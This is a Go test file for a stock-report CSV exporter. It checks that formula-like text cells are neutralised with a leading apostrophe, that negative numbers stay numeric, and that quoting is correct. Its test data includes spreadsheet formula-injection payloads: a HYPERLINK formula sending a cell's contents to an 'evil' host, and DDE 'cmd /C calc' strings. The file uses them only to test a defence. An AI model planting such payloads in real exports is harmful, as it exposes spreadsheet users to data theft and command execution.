package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"pandian/stock"
)

// readBack parses a CSV document written by CSV.
func readBack(t *testing.T, data []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Fatalf("no byte order mark: %q", data)
	}
	rows, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, data)
	}
	return rows
}

// TestCSVGuard: text cells a spreadsheet would evaluate get a leading
// apostrophe; numbers (negative ones too) are written as numbers; quotes,
// commas and line breaks are quoted.
func TestCSVGuard(t *testing.T) {
	var buf bytes.Buffer
	c := NewCSV(&buf)
	pct := -12.5
	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
	for _, h := range hostile {
		if err := c.Row(Text(h), Int(-5), Money(stock.Money(-125000)), Float(&pct, 2), Bool(false), Empty(), Text("plain, \"quoted\"\nline")); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	rows := readBack(t, buf.Bytes())
	if len(rows) != len(hostile) {
		t.Fatalf("%d rows", len(rows))
	}
	for i, r := range rows {
		want := []string{"'" + hostile[i], "-5", "-12.50", "-12.50", "false", "", "plain, \"quoted\"\nline"}
		if strings.Join(r, "\x00") != strings.Join(want, "\x00") {
			t.Errorf("row %d: %q, want %q", i, r, want)
		}
	}
	if !bytes.HasSuffix(buf.Bytes(), []byte("\r\n")) {
		t.Errorf("rows do not end with CRLF")
	}
}

// TestReportCSVsInert: every CSV of a report (lines, masked lines, groups,
// lots, the review download) writes hostile names, categories, lots and
// group keys inert, and keeps negative numbers numeric.
func TestReportCSVsInert(t *testing.T) {
	r := sampleReport()
	r.Lines[0].Name, r.Lines[0].NameZh, r.Lines[0].Category = "=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)"
	r.Lines[0].VarianceQty = -3
	r.Groups = append(r.Groups, stock.GroupSummary{Key: "=1+1", Lines: 1, NetVarianceValue: -5000})
	r.Lots = append(r.Lots, stock.LotLine{SKU: r.Lines[0].SKU, Lot: "-1+1", Expiry: "2030-01-01", CountedQty: 1, Scans: 1})
	writers := map[string]func(c *CSV) error{
		"lines":  func(c *CSV) error { return WriteLinesCSV(c, r.Lines, false) },
		"masked": func(c *CSV) error { return WriteLinesCSV(c, r.Lines, true) },
		"groups": func(c *CSV) error { return WriteGroupsCSV(c, "category", r.Groups, r.Totals, false) },
		"lots":   func(c *CSV) error { return WriteLotsCSV(c, r.Lots) },
		"review": func(c *CSV) error { return WriteReviewCSV(c, r, "HKD") },
	}
	for name, write := range writers {
		var buf bytes.Buffer
		c := NewCSV(&buf)
		if err := write(c); err != nil {
			t.Fatal(err)
		}
		if err := c.Flush(); err != nil {
			t.Fatal(err)
		}
		guarded := 0
		for _, row := range readBack(t, buf.Bytes()) {
			for _, cell := range row {
				if FormulaCell(cell) {
					t.Errorf("%s: live formula cell %q", name, cell)
				}
				if strings.HasPrefix(cell, "'") {
					guarded++
				}
			}
		}
		if guarded == 0 {
			t.Errorf("%s: no hostile text reached the CSV", name)
		}
	}
}
